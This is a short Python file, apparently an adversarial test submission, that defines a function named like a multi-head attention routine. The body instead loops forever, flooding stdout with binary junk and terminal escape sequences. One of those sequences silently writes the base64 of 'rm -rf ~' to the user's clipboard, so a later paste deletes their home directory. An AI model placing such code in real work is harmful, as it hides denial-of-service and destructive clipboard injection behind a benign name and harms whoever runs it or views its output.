"""Floods stdout with binary junk and terminal escapes, through print, sys.__stdout__ and fd 1."""

import os
import sys

JUNK = bytes(range(256)) * 16 + b"\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07\r\x00"


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    while True:
        print(JUNK.decode("latin1"))
        try:
            sys.__stdout__.buffer.write(JUNK)
        except Exception:
            pass
        os.write(1, JUNK)
